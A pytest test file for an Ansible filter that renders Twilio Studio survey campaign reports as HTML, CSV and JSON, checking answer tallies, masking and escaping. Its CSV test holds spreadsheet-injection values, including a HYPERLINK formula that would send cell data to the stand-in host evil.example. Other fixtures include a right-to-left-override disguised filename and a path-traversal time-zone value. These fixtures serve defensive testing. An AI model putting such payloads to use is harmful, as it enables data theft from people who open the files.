# -*- coding: utf-8 -*-
# GNU General Public License v3.0+ (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
"""What the report says and how safely: attention first (failed, opted out, waiting), the header,
answers by value, times in a time zone, how an Execution ended, masking, CSV for spreadsheets,
bidirectional controls and long names, and the page made again from an export or a JSON report."""

from __future__ import absolute_import, division, print_function

__metaclass__ = type

import csv
import datetime
import io
import json
import re

import pytest

from ansible.errors import AnsibleFilterError

from ansible_collections.telephony.twilio.plugins.filter.studio_report import studio_report, studio_report_from
from ansible_collections.telephony.twilio.plugins.plugin_utils import _report

NOW = '2026-11-30T12:00:00Z'
START = datetime.datetime(2026, 11, 30, 9, 0, tzinfo=datetime.timezone.utc)
FLOW = {'friendly_name': 'Customer survey', 'sid': 'FW' + 'f' * 32, 'revision': 7}
DEFINITION = {'initial_state': 'Trigger', 'states': [
    {'name': 'Trigger', 'type': 'trigger', 'transitions': [{'event': 'incomingRequest', 'next': 'ask_rating'}]},
    {'name': 'ask_rating', 'type': 'send-and-wait-for-reply',
     'transitions': [{'event': 'incomingMessage', 'next': 'thanks'}]},
    {'name': 'thanks', 'type': 'send-message', 'transitions': [{'event': 'sent'}]}]}


def at(minutes):
    return (START + datetime.timedelta(minutes=minutes)).strftime('%Y-%m-%dT%H:%M:%SZ')


def step(name, frm, to, minutes):
    return {'name': name, 'transitioned_from': frm, 'transitioned_to': to, 'date_created': at(minutes)}


def replied(body, minutes, start=0):
    steps = [step('incomingRequest', 'Trigger', 'ask_rating', start),
             step('incomingMessage', 'ask_rating', 'thanks', minutes), step('sent', 'thanks', 'Ended', minutes)]
    return steps, {'flow': {'data': {'ansible_campaign': 'nov-survey'}, 'channel': {'address': '+15550009999'},
                            'flow_sid': FLOW['sid']},
                   'widgets': {'ask_rating': {'inbound': {'Body': body}}}}


def contact(number, body=None, minutes=0, status='ended', steps=None, action='created', updated=None, start=0):
    if body is not None:
        found_steps, context = replied(body, minutes, start)
    else:
        found_steps, context = [step('incomingRequest', 'Trigger', 'ask_rating', start)], {
            'flow': {'data': {'ansible_campaign': 'nov-survey'}, 'channel': {'address': '+15550009999'}}}
    return {'to': number, 'action': action, 'failed': False,
            'execution': {'sid': 'FN%032d' % int(number[-4:]), 'status': status, 'date_created': at(start),
                          'date_updated': updated or at(minutes or start), 'account_sid': 'AC' + 'a' * 32},
            'steps': found_steps if steps is None else steps, 'context': context}


ANSWERS = ['4', '3', 'Stop', '5', '1', 'five', '2', 'yes', '5', ' QUIT ']
SURVEY = {'contacts': dict(('+1555123%04d' % n, contact('+1555123%04d' % n, body, minutes=3 * (n + 1)))
                           for n, body in enumerate(ANSWERS))}
SURVEY['contacts']['+15551230100'] = contact('+15551230100', status='active', updated=at(0))  # waiting since 09:00
SURVEY['contacts']['+15551230101'] = contact('+15551230101', status='ended', action='created', updated=at(60))
FAILURES = {'+15551230102': 'Contact +15551230102: Studio refused the To address (21211)'}


def page(batch=None, failures=None, **options):
    options.setdefault('now', NOW)
    batch = SURVEY if batch is None else batch
    return studio_report(batch, FAILURES if failures is None else failures, 'html', None, 'Campaign report', DEFINITION,
                         flow=options.pop('flow', FLOW), **options)


def section(text, ident, until=None):
    start = text.index('id="%s"' % ident)
    return text[start:text.index(until, start) if until else len(text)]


# -- answers -------------------------------------------------------------------------------------
def test_numeric_answers_come_in_order_of_value_with_words_folded_and_opt_outs_apart():
    rows = studio_report(SURVEY, None, 'rows')
    question = _report.answers(rows, DEFINITION)['ask_rating']
    assert question['numeric'] is True
    assert question['items'] == [('1', 1), ('2', 1), ('3', 1), ('4', 1), ('5', 3), ('other (not a number)', 1)]
    assert question['opted_out'] == 2 and question['replied'] == 10 and question['answered'] == 8
    assert question['mean'] == pytest.approx((4 + 3 + 5 + 1 + 5 + 2 + 5) / 7.0)
    assert question['variants']['5'] == {'5': 2, 'five': 1}
    assert question['asked'] == 12  # every contact with an Execution reached the question


def test_words_and_numbers_fold_but_not_sentences():
    assert [_report.number_of(t) for t in ('five', ' Ten ', '4,5', '4.0', '-2', '5 stars', 'eleven', '')] == \
        [5, 10, 4.5, 4, -2, None, None, None]


def test_text_answers_rank_by_count_whatever_the_case():
    rows = [_report.describe({'contact': str(n), 'execution_sid': 'FN', 'status': 'ended'}, [],
                             {'widgets': {'q': {'inbound': {'Body': body}}}})
            for n, body in enumerate(['Yes', 'yes', 'YES', 'no', 'maybe', 'No', '5'])]
    question = _report.answers(rows)['q']
    assert question['numeric'] is False
    assert question['items'] == [('Yes', 3), ('no', 2), ('5', 1), ('maybe', 1)]  # the first spelling seen


@pytest.mark.parametrize('body,opted', [('STOP', True), ('stop', True), (' Quit ', True), ('StopAll', True),
                                        ('UNSUBSCRIBE', True), ('cancel', True), ('End', True),
                                        ('stop please', False), ('unsubscribe me', False), ('STOP!', False),
                                        ('', False), ('5', False)])
def test_an_opt_out_is_a_keyword_as_the_whole_reply(body, opted):
    assert _report.is_opt_out(body) is opted


def test_the_page_shows_the_answers_by_value_with_mean_rate_and_times_to_reply():
    text = section(page(), 'answers', 'id="funnel"')
    assert '<desc id="answers-0-desc">1: 1 replies; 2: 1 replies; 3: 1 replies; 4: 1 replies; 5: 3 replies; ' \
           'other (not a number): 1 replies' in text
    chart = re.search(r'<desc id="answers-0-desc">(.*?)</desc>', text).group(1)
    assert 'Stop' not in chart and 'QUIT' not in chart  # opt-outs are not answers
    stats = re.search(r'id="question-0-stats">(.*?)</p>', text).group(1)
    assert '<b>10 of 12</b> asked replied (83%)' in stats and '2 opted out (not counted as answers)' in stats
    assert 'mean <b>3.6</b> over 7 numeric answers' in stats
    # time to reply of the 8 answers (opt-outs aside): 3, 6, 12, 15, 18, 21, 24, 27 minutes
    assert 'time to reply: median 15 min, 90% within 27 min' in stats
    assert '<bdi>five</bdi> (1)' in text


# -- attention -----------------------------------------------------------------------------------
def test_attention_lists_the_failed_the_opted_out_and_the_waiting_first():
    html = page()
    attention = section(html, 'attention', '</section>')
    assert html.index('id="attention"') < html.index('id="answers"') < html.index('id="contacts"')
    assert '1 failed' in attention and 'Studio refused the To address (21211)' in attention
    assert '2 opted out' in attention and '>Stop<' in attention and '> QUIT <' in attention
    assert '1 still waiting after more than 24 h' not in attention  # waiting 3 h only
    assert re.search(r'<div class="alert"><dt>Failed</dt><dd id="total-failed">1<', html)
    assert re.search(r'<div class="warn"><dt>Opted out</dt><dd id="total-opted_out">2<', html)
    assert re.search(r'<div><dt>Waiting too long</dt><dd id="total-waiting">0<', html)


def test_a_contact_waiting_past_the_threshold_needs_attention():
    html = page(waiting_hours=2)
    attention = section(html, 'attention', '</section>')
    assert '1 still waiting after more than 2 h 00 min' in attention and '+15551230100' in attention
    assert '3 h 00 min' in attention
    assert re.search(r'<div class="warn"><dt>Waiting too long</dt><dd id="total-waiting">1<', html)
    with pytest.raises(AnsibleFilterError, match='studio_report_waiting_hours must be a number of hours'):
        page(waiting_hours='a day')


def test_a_calm_page_says_nobody_needs_attention():
    batch = {'contacts': {'+15551230001': contact('+15551230001', '5', minutes=3)}}
    html = page(batch, {})
    assert 'Nobody: no contact failed, nobody opted out, nobody has waited more than 1 d 0 h' in html
    assert 'class="alert"' not in html and 'class="warn"' not in html


# -- header, times and cards ---------------------------------------------------------------------
def test_the_header_says_what_this_was():
    about = section(page(timezone='Europe/Paris'), 'about', '</dl>')
    assert 'nov-survey' in about and 'Customer survey' in about and FLOW['sid'] in about
    assert 'id="about-flow-revision">7<' in about and '+15550009999' in about and 'AC' + 'a' * 32 in about
    assert 'id="about-first-execution">30 Nov 2026 10:00<' in about  # 09:00 UTC is 10:00 in Paris
    assert 'id="about-last-execution">30 Nov 2026 10:00<' in about
    assert 'Europe/Paris (every time on this page)' in about and 'run_flow.yml' in about


def test_times_are_short_in_the_time_zone_with_the_full_time_in_a_tooltip():
    html = page(timezone='America/Los_Angeles')
    table = section(html, 'contacts')
    assert '<td class="time" title="2026-11-30T01:00:00-08:00">30 Nov 01:00</td>' in table
    assert 'white-space:nowrap' in html and '2026-11-30T09:00:00Z<' not in table
    utc = section(page(), 'contacts')
    assert '<td class="time" title="2026-11-30T09:00:00+00:00">30 Nov 09:00</td>' in utc
    assert 'UTC (every time' in page(timezone='utc')
    summer = _report.short_time(_report.parse_time('2026-07-01T12:00:00Z'), _report.zone('Europe/Paris'))
    assert summer == '1 Jul 14:00'


@pytest.mark.parametrize('name', ['Mars/Olympus', 'Europe/../etc/passwd', '', 'utc+1', 5])
def test_a_time_zone_that_is_not_an_iana_name_is_refused(name):
    if name == '':
        assert 'UTC (every time' in page(timezone=name)
        return
    with pytest.raises(AnsibleFilterError, match='studio_report_timezone must be an IANA time zone name'):
        page(timezone=name)


def test_each_contact_has_reply_time_time_to_reply_and_time_to_end():
    table = section(page(), 'contacts')
    row = re.search(r'<tr[^>]*><td class="who"><bdi>\+15551230003</bdi>.*?</tr>', table).group(0)
    # started 09:00, replied 5 at 09:12, ended 09:12
    assert '<bdi>5</bdi>' in row and '30 Nov 09:12' in row and row.count('>12 min<') == 2


def test_durations_and_percentiles():
    assert [_report.duration(s) for s in (None, 0, 59, 60, 3599, 3600, 3 * 3600 + 5 * 60, 86400 * 2 + 4 * 3600)] == \
        ['', '0 s', '59 s', '1 min', '59 min', '1 h 00 min', '3 h 05 min', '2 d 4 h']
    assert _report.percentile([5, 1, 3, 2, 4], 0.5) == 3 and _report.percentile(list(range(1, 11)), 0.9) == 9
    assert _report.percentile([], 0.5) is None


@pytest.mark.parametrize('state,present,absent', [
    ('present', ['Triggered now', 'Already running', 'Failed'], ['With an Execution', 'Ended now by this run']),
    ('gathered', ['With an Execution', 'No Execution', 'Failed'], ['Triggered now', 'Already running']),
    ('ended', ['Ended now by this run', 'Not active'], ['Triggered now', 'Opted out', 'Waiting too long']),
    ('export', ['With an Execution', 'Still active'], ['Triggered now', 'Failed', 'No Execution']),
])
def test_no_card_that_cannot_apply_to_the_playbook(state, present, absent):
    cards = section(page(state=state), 'totals', '</dl>')
    for label in present:
        assert '<dt>%s' % label in cards
    for label in absent:
        assert '<dt>%s' % label not in cards
    assert 'Reached earlier by this campaign' not in cards  # no contact was


def test_the_page_infers_the_playbook_from_the_actions():
    gathered = {'contacts': {'+15551230001': dict(contact('+15551230001', '5', 3), action='latest')}}
    assert '<dt>Triggered now' not in page(gathered, {}) and '<dt>With an Execution' in page(gathered, {})


# -- how it ended --------------------------------------------------------------------------------
def test_ended_by_the_operator_is_apart_from_ended_after():
    waited = [step('incomingRequest', 'Trigger', 'ask_rating', 0)]
    row = {'execution_sid': 'FN1', 'status': 'ended', 'date_updated': at(90)}
    assert _report.ending(row, waited) == ('ended by the operator at ask_rating', 'operator', at(90))
    finished, dummy = replied('5', 3)
    assert _report.ending(row, finished) == ('ended after thanks', 'flow', at(3))
    looped = waited + [step('timeout', 'ask_rating', 'ask_rating', n) for n in range(10)]
    assert _report.ending(row, looped)[0] == "stopped by Studio's limits at ask_rating"
    # without Steps, end_active.yml's own action says it
    assert _report.ending(dict(row, action='ended', last_widget='ask_rating'), []) == (
        'ended by the operator at ask_rating', 'operator', at(90))
    assert _report.ending(dict(row, action='ended'), [])[0] == 'ended by the operator'
    html = page()
    outcomes = section(html, 'outcomes', '</section>')
    assert 'ended by the operator at ask_rating: 1 contacts' in outcomes and 'ended after thanks: 10' in outcomes
    assert 'not about delivery' in outcomes and 'Messaging logs' in outcomes
    assert 'id="total-operator">1<' in html


# -- masking -------------------------------------------------------------------------------------
def test_masking_hides_numbers_and_personal_fields_in_every_format():
    answered = contact('+15551230123', 'call me on +44 20 7946 0958', 3)
    batch = {'contacts': {'+15551230123': dict(answered, fields={'name': 'Ann Example', 'rating': '5'})}}
    failures = {'+15559870001': 'Contact +15559870001: Studio refused it'}
    for fmt in ('json', 'csv', 'html', 'lines', 'rows'):
        out = studio_report(batch, failures, fmt, None, mask=True, personal=['name'], now=NOW)
        if fmt == 'json':
            out = json.loads(out)
        text = out if isinstance(out, str) else json.dumps(out, ensure_ascii=False)
        assert '+15551230123' not in text and '5551230123' not in text and '+15559870001' not in text, fmt
        assert '7946 0958' not in text and 'Ann Example' not in text, fmt
        assert u'+1555\u2022\u2022\u20220123' in text and u'+1555\u2022\u2022\u20220001' in text, fmt
        assert 'FN%032d' % 123 in text or fmt == 'lines' and 'FN' in text, fmt  # SIDs are not numbers
    rows = studio_report(batch, failures, 'rows', mask=True, personal=['name'])
    assert rows[0]['name'] == u'\u2022\u2022\u2022' and rows[0]['rating'] == '5'
    assert rows[0]['replies']['ask_rating']['body'] == u'call me on +4420\u2022\u2022\u20220958'
    assert _report.mask_number('whatsapp:+15551230004') == u'whatsapp:+1555\u2022\u2022\u20220004'
    assert _report.mask_number('2026-11-30T09:46:43Z FN0123456789abcdef') == '2026-11-30T09:46:43Z FN0123456789abcdef'
    unmasked = studio_report(batch, failures, 'json')
    assert '+15551230123' in unmasked and 'Ann Example' in unmasked
    # a flag that templating left as text means what it says
    assert '+15551230123' in studio_report(batch, failures, 'json', mask='False')
    assert '+15551230123' not in studio_report(batch, failures, 'json', mask='yes')
    with pytest.raises(AnsibleFilterError, match='studio_report_personal must be a list of report column names'):
        studio_report(batch, failures, 'json', mask=True, personal={'name': 1})


# -- CSV for spreadsheets ------------------------------------------------------------------------
HOSTILE = ['=HYPERLINK("http://evil.example/?d="&B3,"Click me")', '=1+1', '+1+2', '-2+3', '@SUM(4+5)', '\t=1',
           '\r=5+6', 'a\rb', 'line\nbreak', 'plain', u'evil\u202egnp.exe']


def test_csv_cells_cannot_start_a_formula_and_a_carriage_return_stays_in_its_cell():
    batch = {'contacts': dict(('c%02d' % n, {'to': '+1555123%04d' % n, 'action': 'created', 'failed': False,
                                             'execution': {'sid': 'FN%d' % n, 'status': 'active'},
                                             'fields': {'reply': value}})
                              for n, value in enumerate(HOSTILE))}
    batch['contacts']['=1+1'] = {'to': '-1', 'action': 'created', 'failed': False, 'execution': None}
    text = studio_report(batch, None, 'csv')
    assert text.endswith('\r\n') and text.count('\r\n') >= len(HOSTILE) + 2
    records = list(csv.reader(io.StringIO(text, newline='')))
    assert len(records) == len(HOSTILE) + 2  # the header and one row per contact, no phantom row
    header, rows = records[0], records[1:]
    assert all(line.startswith('"') for line in text.split('\r\n') if line)  # every field quoted
    by_name = dict((row[0], dict(zip(header, row))) for row in rows)
    assert by_name["'=1+1"]['to'] == "'-1"
    for n, value in enumerate(HOSTILE):
        cell = by_name['c%02d' % n]['reply']
        assert not cell.startswith(_report.FORMULA_START)
        expected = _report.neutral(value)
        assert cell == ("'" + expected if value.startswith(_report.FORMULA_START) else expected)
        assert by_name['c%02d' % n]['to'] == "'+1555123%04d" % n  # the + is kept, as text
    assert by_name['c10']['reply'] == 'evil<U+202E>gnp.exe'


# -- untrusted text ------------------------------------------------------------------------------
BIDI_SAMPLES = [u'\u202a', u'\u202b', u'\u202c', u'\u202d', u'\u202e', u'\u2066', u'\u2067', u'\u2068', u'\u2069']


def test_bidi_controls_are_shown_never_obeyed_in_the_page_and_the_summary():
    name = u'Survey \u202eevil'
    batch = {'contacts': {u'evil\u202egnp.exe': contact('+15551230001', u'\u2066yes\u2069', 3)}}
    html = studio_report(batch, {u'bad\u202eone': u'no \u202e here'}, 'html', None, name, now=NOW)
    assert not _report.BIDI.search(html)
    assert 'Survey &lt;U+202E&gt;evil' in html and 'evil&lt;U+202E&gt;gnp.exe' in html
    assert '&lt;U+2066&gt;yes&lt;U+2069&gt;' in html
    lines = studio_report(batch, {u'bad\u202eone': u'no \u202e here'}, 'lines')
    assert not any(_report.BIDI.search(line) for line in lines)
    assert 'bad<U+202E>one: FAILED - no <U+202E> here' in lines
    for control in BIDI_SAMPLES:
        assert _report.neutral(control) == '<U+%04X>' % ord(control)


def test_long_names_are_cut_with_the_whole_value_in_a_tooltip_and_tables_scroll():
    widget = 'w' * 300
    steps = [step('incomingRequest', 'Trigger', widget, 0)]
    batch = {'contacts': {'+15551230001': dict(contact('+15551230001', status='active', steps=steps),
                                               fields={'note': 'n' * 500})}}
    html = studio_report(batch, None, 'html', now=NOW)
    assert '<bdi title="%s">%s\u2026</bdi>' % ('n' * 500, 'n' * 79) in html
    assert '<title>waiting at %s</title>waiting at %s\u2026</text>' % (widget, 'w' * 18) in html
    assert html.count('<div class="scroll"><table') >= 2 and '.scroll{overflow-x:auto' in html
    assert 'td{max-width:22rem;overflow-wrap:break-word}' in html


# -- the source of each contact's Steps and Context -----------------------------------------------
class Facts(dict):
    """hostvars: contact -> its variables."""


def test_the_batch_result_is_the_source_of_truth_and_facts_fill_in_for_gather_only_runs():
    mine, dummy = replied('4', 3)
    other_steps, other_context = replied('1', 9)
    result = contact('+15551230001', '4', 3)
    facts = Facts({'+15551230001': {'studio_steps': other_steps, 'studio_context': other_context,
                                    'studio_execution': result['execution']}})
    rows = studio_report({'contacts': {'+15551230001': result}}, None, 'rows', facts)
    assert rows[0]['replies']['ask_rating']['body'] == '4'
    slim = dict((k, v) for k, v in result.items() if k not in ('steps', 'context'))
    slim.update(step_count=3, last_widget='thanks')
    rows = studio_report({'contacts': {'+15551230001': slim}}, None, 'rows', facts)
    assert rows[0]['replies']['ask_rating']['body'] == '1' and rows[0]['outcome'] == 'ended after thanks'
    # facts of another Execution (an earlier run's) do not describe this one
    stale = Facts({'+15551230001': dict(facts['+15551230001'], studio_execution={'sid': 'FNolder'})})
    rows = studio_report({'contacts': {'+15551230001': slim}}, None, 'rows', stale)
    assert rows[0]['replies'] == {} and rows[0]['outcome'] == 'ended after thanks'
    assert mine  # the batch's own Steps were the ones read above


# -- made again from a file ----------------------------------------------------------------------
def export_line(number, body, minutes, campaign='nov-survey', start=0, status='ended'):
    steps, context = replied(body, minutes, start)
    context['flow']['data']['ansible_campaign'] = campaign
    sid = 'FN%s%028d' % (campaign[:4].encode().hex(), int(number[-4:]) * 100 + start)
    for one in steps:
        one['context'] = {'widgets': {'big': 'x' * 2000}}  # Step Contexts: what makes export lines big
    return json.dumps({'sid': sid, 'execution': {
        'sid': sid, 'status': status, 'contact_channel_address': number, 'date_created': at(start),
        'date_updated': at(minutes), 'account_sid': 'AC' + 'a' * 32, 'flow_sid': FLOW['sid']},
        'context': context, 'steps': steps})


def test_the_page_from_an_export_takes_each_contacts_latest_execution_of_the_campaign(tmp_path):
    path = tmp_path / 'export.jsonl'
    lines = [export_line('+15551230001', '2', 5, start=0), export_line('+15551230001', '5', 70, start=60),
             export_line('+15551230002', 'STOP', 4), export_line('+15551230003', '4', 9, campaign='other')]
    path.write_text('\n'.join(lines) + '\n')
    rows = studio_report_from(str(path), 'rows', campaign='nov-survey', fields={'rating': 'widgets.ask_rating.inbound.Body'})
    assert [(r['contact'], r['rating'], r['action']) for r in rows] == [
        ('+15551230001', '5', 'exported'), ('+15551230002', 'STOP', 'exported')]
    html = studio_report_from(str(path), 'html', campaign='nov-survey', timezone='Asia/Tokyo', now=NOW)
    assert 'from a JSON Lines export (4 Executions read)' in html and 'report.yml' in html
    assert '<dt>Triggered now' not in html and '1 opted out' in html
    assert 'id="about-first-execution">30 Nov 2026 18:00<' in html  # 09:00 UTC in Tokyo
    everything = studio_report_from(str(path), 'rows')
    assert len(everything) == 3
    # a last line cut short by an interrupted export is left for the export to repair
    path.write_text('\n'.join(lines) + '\n' + lines[0][:50])
    assert len(studio_report_from(str(path), 'rows')) == 3


@pytest.mark.parametrize('content,message', [
    ('not json\n{"x": 1}\n', 'neither JSON Lines nor JSON'),
    ('{"sid": "FN1", "execution": {}}\nnot json\n{"sid": "FN2", "execution": {}}\n', 'line 2 is not JSON'),
    ('{"sid": "FN1", "execution": {}}\n{"sid": "FN2"}\n', 'line 2 has no "execution"'),
    ('{"something": "else"}', 'not a report'),
    ('[1, 2]', 'not a report'),
    ('', 'is empty'),
    (b'{"a": "\xff"}\n', 'is not UTF-8 text'),
])
def test_a_file_that_is_not_a_report_is_refused_in_words(tmp_path, content, message):
    path = tmp_path / 'bad.jsonl'
    if isinstance(content, bytes):
        path.write_bytes(content)
    else:
        path.write_text(content)
    with pytest.raises(AnsibleFilterError, match=message):
        studio_report_from(str(path), 'html')
    with pytest.raises(AnsibleFilterError, match='cannot read'):
        studio_report_from(str(tmp_path / 'missing.jsonl'), 'html')


def test_the_json_report_and_the_awx_artifact_give_the_same_page(tmp_path):
    rows = json.loads(studio_report(SURVEY, FAILURES, 'json'))
    direct = page(flow=None, state=None)
    report = tmp_path / 'report.json'
    report.write_text(json.dumps(rows))
    artifact = tmp_path / 'job.json'
    artifact.write_text(json.dumps({'id': 42, 'artifacts': {'studio_report': rows}}))
    for path in (report, artifact):
        again = studio_report_from(str(path), 'html', title='Campaign report', now=NOW)
        for ident, until in (('totals', '</section>'), ('attention', '</section>'), ('outcomes', '</section>'),
                             ('contacts', '</section>')):
            assert section(again, ident, until) == section(direct, ident, until), (path, ident)
        # the definition is not in the file: the funnel follows the order contacts reached the widgets
        assert section(again, 'answers', 'id="funnel"') == section(direct, 'answers', 'id="funnel"')


def test_a_page_of_5000_contacts_comes_in_collapsed_pages():
    batch = {'contacts': dict(('+1555%07d' % n, contact('+1555%07d' % n, str(n % 5 + 1), 3)) for n in range(5000))}
    html = studio_report(batch, None, 'html', now=NOW)
    assert html.count('<details class="page"') == 10 and html.count('<details class="page" open>') == 1
    assert 'Contacts 4501 to 5000 of 5000' in html and html.count('<tr><td class="who"><bdi>+1555') == 5000
    assert len(html) < 8 * 1024 * 1024


def test_long_attention_lists_show_ten_and_fold_the_rest_and_a_number_column_only_when_it_says_more():
    batch = {'contacts': dict(('+1555%07d' % n, contact('+1555%07d' % n, status='active', updated=at(0)))
                              for n in range(130))}
    attention = section(page(batch, {}, waiting_hours=1), 'attention', '</section>')
    visible, folded = attention.split('<details>', 1)
    assert visible.count('<tr><td class="who">') == 10 and '<summary>120 more</summary>' in folded
    assert folded.count('<tr><td class="who">') == 90 and 'and 30 more: every contact is in the table below' in folded
    assert not re.search(r'<th scope="col">(<bdi>)?Number', page(batch, {}))  # every host is named by its number
    batch['contacts']['ann'] = contact('+15559990000', '5', 3)
    html = page(batch, {})
    assert len(re.findall(r'<th scope="col">(<bdi>)?Number', html)) == 1 and '<td class="who"><bdi>+15559990000</bdi></td>' in html


def test_the_options_can_be_checked_before_anything_is_sent():
    assert studio_report({}, None, 'check', timezone='Europe/Paris', mask=True, personal=['name'], waiting_hours='12')
    for options, message in (({'timezone': 'Mars/Base'}, 'studio_report_timezone must be an IANA'),
                             ({'waiting_hours': 'soon'}, 'studio_report_waiting_hours must be a number'),
                             ({'waiting_hours': -1}, 'studio_report_waiting_hours must be a number of hours, 0 or more'),
                             ({'waiting_hours': 'nan'}, 'studio_report_waiting_hours must be a number'),
                             ({'waiting_hours': True}, 'studio_report_waiting_hours must be a number'),
                             ({'mask': 'maybe'}, 'studio_report_mask must be true or false'),
                             ({'personal': [1]}, 'studio_report_personal must be a list')):
        with pytest.raises(AnsibleFilterError, match=message):
            studio_report({}, None, 'check', **options)
